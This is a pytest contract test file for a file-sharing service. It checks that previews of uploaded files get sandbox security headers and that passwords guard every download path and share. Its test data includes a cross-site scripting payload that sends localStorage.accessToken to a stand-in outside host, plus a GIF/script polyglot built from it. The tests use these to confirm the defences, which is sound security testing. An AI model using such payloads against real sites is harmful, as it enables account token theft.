"""Links and passwords on the running system: the gateway and the store carry out what the share service decides."""

import base64
import hashlib
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from deploy.local.stack import StartedStack
from tests.contract.conftest import client_of
from tests.contract.filecodebox import wire as box
from tests.contract.fileuploader import wire as uploader

PREVIEW_POLICY = "sandbox; default-src 'none'; img-src 'self' data:; media-src 'self'; style-src 'unsafe-inline'"
SCRIPT = b"<script>fetch('//elsewhere.example/' + localStorage.accessToken)</script>"
# A file that can be read as an image, as a page and as a script.
POLYGLOT = b"GIF89a/*" + SCRIPT + b"*/=1;alert(document.domain)//"


@pytest.fixture(scope="module")
def owner(stack: StartedStack, client: httpx.Client) -> Iterator[httpx.Client]:
    with client_of(stack, **uploader.bearer(uploader.register(client))) as owner:
        yield owner


def basic(password: str) -> dict[str, str]:
    return {"Authorization": "Basic " + base64.b64encode(f"anyone:{password}".encode()).decode()}


def share_of(owner: httpx.Client, link: dict[str, Any]) -> dict[str, Any]:
    return next(share for share in owner.get("/v1/shares").json()["shares"] if share["code"] == link["file_url"])


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("page.html", SCRIPT, "text/html; charset=utf-8"),
        ("image.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>", "image/svg+xml"),
        ("page.xml", b"<html xmlns='http://www.w3.org/1999/xhtml'>" + SCRIPT + b"</html>", "application/xml"),
        ("image.gif", POLYGLOT, "image/gif"),
        ("text.txt", SCRIPT, "text/plain; charset=utf-8"),
        ("script.js", POLYGLOT, "application/octet-stream"),
    ],
)
def test_no_preview_can_reach_the_app_s_origin(
    client: httpx.Client, name: str, content: bytes, media_type: str
) -> None:
    link = uploader.upload(client, content, name)
    path = f"/file/{link['file_url']}"
    answers = [client.get(path), client.head(path), client.get(path, headers={"Range": "bytes=2-5"})]
    for answer in answers:
        assert answer.headers["content-type"] == media_type
        assert answer.headers["content-security-policy"] == PREVIEW_POLICY
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["cross-origin-resource-policy"] == "cross-origin"
        assert ("content-disposition" in answer.headers) == (name == "script.js")
        digest = base64.b64encode(hashlib.sha256(content).digest()).decode()
        assert answer.headers["repr-digest"] == f"sha-256=:{digest}:"
    assert [answer.status_code for answer in answers] == [200, 200, 206]
    assert (answers[0].content, answers[2].content) == (content, content[2:6])
    beyond = client.get(path, headers={"Range": "bytes=5000-"})
    assert (beyond.status_code, beyond.headers["content-range"]) == (416, f"bytes */{len(content)}")


def test_every_way_to_a_file_asks_for_its_password(client: httpx.Client, owner: httpx.Client) -> None:
    link = uploader.upload(owner, b"the content", "secret.txt")
    file_id = share_of(owner, link)["file_id"]
    code = owner.post("/v1/shares", json={"file_id": file_id, "form": "code"}).json()["code"]
    assert owner.patch(f"/v1/files/{file_id}", json={"password": "pw"}).status_code == 200
    for path in (f"/file/{link['file_url']}", f"/f/{link['file_url']}"):
        refused = client.get(path)
        assert refused.status_code == 401
        assert refused.headers["www-authenticate"] == 'Basic realm="share"'
        assert client.get(path, headers=basic("wrong")).status_code == 401
        assert client.get(path, headers=basic("pw")).content == b"the content"
    # FileCodeBox's pages take a 401 for the end of their administrator's session.
    path = f"/share/select/?code={code}"
    assert client.get(path).status_code == 403
    assert client.get(path, headers=basic("wrong")).status_code == 403
    assert client.get(path, headers=basic("pw")).content == b"the content"
    assert client.post("/share/metadata/", json={"code": code}).status_code == 403
    assert client.post("/share/select/", json={"code": code}).status_code == 403
    found = box.detail(client.post("/share/select/", json={"code": code, "password": "pw"}))
    assert client.get(found["download_url"]).content == b"the content"
    assert client.get(f"/v1/links/{link['file_url']}").json() == {"needs_password": True, "mine": False}
    assert owner.patch(f"/v1/files/{file_id}", json={"password": None}).status_code == 200
    assert client.get(f"/file/{link['file_url']}").content == b"the content"


def test_a_share_has_a_password_of_its_own(client: httpx.Client, owner: httpx.Client) -> None:
    link = uploader.upload(owner, b"the content")
    share = share_of(owner, link)
    second = owner.post("/v1/shares", json={"file_id": share["file_id"], "password": "pw"}).json()
    assert client.get(f"/f/{link['file_url']}").content == b"the content"
    assert client.get(second["url"]).status_code == 401
    assert client.get(second["url"], headers={"X-Share-Password": "pw"}).content == b"the content"


def test_shares_made_through_filecodebox_belong_to_the_signed_in_account(
    owner: httpx.Client, client: httpx.Client
) -> None:
    codes = [box.share_file(owner, box.content()), box.share_text(owner)]
    others = [box.share_file(client, box.content()), box.share_text(client)]
    found = {share["code"]: share for share in owner.get("/v1/shares").json()["shares"]}
    assert set(codes) <= set(found)
    assert not set(others) & set(found)
    for code in codes:
        assert owner.delete(f"/v1/shares/{found[code]['id']}").status_code == 204
        assert client.get("/share/select/", params={"code": code}).json() == box.ENDED
